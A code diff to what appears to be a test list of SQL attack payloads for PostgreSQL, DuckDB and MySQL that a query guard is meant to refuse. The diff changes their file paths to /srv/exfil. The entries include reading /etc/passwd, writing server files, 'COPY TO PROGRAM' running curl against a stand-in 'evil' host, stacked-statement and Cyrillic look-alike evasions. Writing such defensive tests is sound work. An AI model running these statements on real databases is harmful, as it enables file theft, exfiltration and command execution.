@@ -34,7 +34,7 @@ const POSTGRESQL_FUNCTIONS: AttackPayload[] = [
   host('SELECT * FROM pg_ls_waldir()', PG, 'list the WAL directory'),
   host("SELECT * FROM pg_stat_file('/etc/passwd')", PG, 'stat a server file'),
   host("SELECT lo_import('/etc/passwd')", PG, 'import a server file as a large object'),
-  host("SELECT lo_export(1234, '/tmp/out')", PG, 'write a server file from a large object'),
+  host("SELECT lo_export(1234, '/srv/exfil/out')", PG, 'write a server file from a large object'),
   host('SELECT lo_get(1234)', PG, 'read a large object'),
   host("SELECT lo_from_bytea(0, 'x')", PG, 'create a large object'),
   host("SELECT query_to_xml('select * from secret', true, false, '')", PG, 'run SQL from a string past table grants'),
@@ -90,7 +90,7 @@ const POSTGRESQL_FUNCTIONS: AttackPayload[] = [
 ];
 
 const POSTGRESQL_STATEMENTS: AttackPayload[] = [
-  host("COPY t TO '/tmp/out.csv'", PG, 'write a server file'),
+  host("COPY t TO '/srv/exfil/out.csv'", PG, 'write a server file'),
   host("COPY t FROM '/etc/passwd'", PG, 'read a server file'),
   host("COPY t TO PROGRAM 'curl evil'", PG, 'run a program'),
   host("COPY (SELECT 1) TO PROGRAM 'id'", PG, 'run a program'),
@@ -198,10 +198,10 @@ const DUCKDB_FUNCTIONS: AttackPayload[] = [
 ];
 
 const DUCKDB_STATEMENTS: AttackPayload[] = [
-  host("COPY t TO '/tmp/out.csv'", DUCK, 'write a file'),
+  host("COPY t TO '/srv/exfil/out.csv'", DUCK, 'write a file'),
   host("COPY t FROM '/etc/passwd'", DUCK, 'read a file'),
   host("COPY (SELECT 1) TO 'out.parquet' (FORMAT parquet)", DUCK, 'write a file'),
-  host("ATTACH '/tmp/other.db' AS other", DUCK, 'attach a database file'),
+  host("ATTACH '/srv/exfil/other.db' AS other", DUCK, 'attach a database file'),
   host("ATTACH 'host=evil' AS pg (TYPE postgres)", DUCK, 'attach another server'),
   host('DETACH other', DUCK, 'detach a database'),
   host('INSTALL httpfs', DUCK, 'install an extension'),
@@ -211,8 +211,8 @@ const DUCKDB_STATEMENTS: AttackPayload[] = [
   host('RESET threads', DUCK, 'reset a setting'),
   host("PRAGMA enable_profiling", DUCK, 'pragma'),
   host('PRAGMA database_list', DUCK, 'pragma'),
-  host("EXPORT DATABASE '/tmp/dump'", DUCK, 'write files'),
-  host("IMPORT DATABASE '/tmp/dump'", DUCK, 'read files'),
+  host("EXPORT DATABASE '/srv/exfil/dump'", DUCK, 'write files'),
+  host("IMPORT DATABASE '/srv/exfil/dump'", DUCK, 'read files'),
   host('CALL pragma_version()', DUCK, 'call'),
   host("CREATE SECRET s (TYPE s3, KEY_ID 'x', SECRET 'y')", DUCK, 'create a secret'),
   host('CREATE MACRO m(x) AS x + 1', DUCK, 'define code'),
@@ -225,7 +225,7 @@ const DUCKDB_STATEMENTS: AttackPayload[] = [
   host('SET VARIABLE v = 1', DUCK, 'set a variable'),
   host('UPDATE EXTENSIONS', DUCK, 'update extensions'),
   host("COPY FROM DATABASE memory TO other", DUCK, 'copy a database'),
-  host("SELECT 1; ATTACH '/tmp/x.db'", DUCK, 'stacked ATTACH'),
+  host("SELECT 1; ATTACH '/srv/exfil/x.db'", DUCK, 'stacked ATTACH'),
   dml('SELECT 1; DELETE FROM t', DUCK, 'stacked DELETE'),
   dml('CREATE TABLE x AS SELECT 1', DUCK, 'create a table'),
 ];
@@ -264,8 +264,8 @@ const MYSQL_FUNCTIONS: AttackPayload[] = [
 ];
 
 const MYSQL_STATEMENTS: AttackPayload[] = [
-  host("SELECT * FROM t INTO OUTFILE '/tmp/out'", MY, 'write a server file'),
-  host("SELECT 'x' INTO DUMPFILE '/tmp/out'", MY, 'write a server file'),
+  host("SELECT * FROM t INTO OUTFILE '/srv/exfil/out'", MY, 'write a server file'),
+  host("SELECT 'x' INTO DUMPFILE '/srv/exfil/out'", MY, 'write a server file'),
   host('SELECT 1 INTO @v', MY, 'set a variable'),
   host("LOAD DATA INFILE '/etc/passwd' INTO TABLE t", MY, 'read a server file'),
   host("LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE t", MY, 'read a client file'),
@@ -304,11 +304,11 @@ const EVERY_ENGINE: AttackPayload[] = [
   dml('CREATE TABLE x (a int)', ALL, 'create'),
   dml('TRUNCATE t', PG_DUCK, 'truncate'),
   dml('SELECT 1; INSERT INTO t VALUES (1)', ALL, 'stacked INSERT'),
-  host("SELECT 1 /* ; */ ; COPY t TO '/tmp/x'", PG_DUCK, 'a semicolon inside a comment'),
-  host("SELECT ';' ; COPY t TO '/tmp/x'", PG_DUCK, 'a semicolon inside a string'),
+  host("SELECT 1 /* ; */ ; COPY t TO '/srv/exfil/x'", PG_DUCK, 'a semicolon inside a comment'),
+  host("SELECT ';' ; COPY t TO '/srv/exfil/x'", PG_DUCK, 'a semicolon inside a string'),
   // Look-alikes: Cyrillic "р" and "е" make a different name. Refused because it does not parse as a
   // call on some engines, or because the look-alike is not the real function elsewhere (see the spec).
-  host("SELECT pg_rеad_file('/etc/hostname'); COPY t TO '/tmp/x'", PG, 'Cyrillic look-alike, then COPY'),
+  host("SELECT pg_rеad_file('/etc/hostname'); COPY t TO '/srv/exfil/x'", PG, 'Cyrillic look-alike, then COPY'),
   host('SELECT 1;;; GRANT ALL ON t TO public', PG, 'empty statements around a GRANT'),
 ];
 
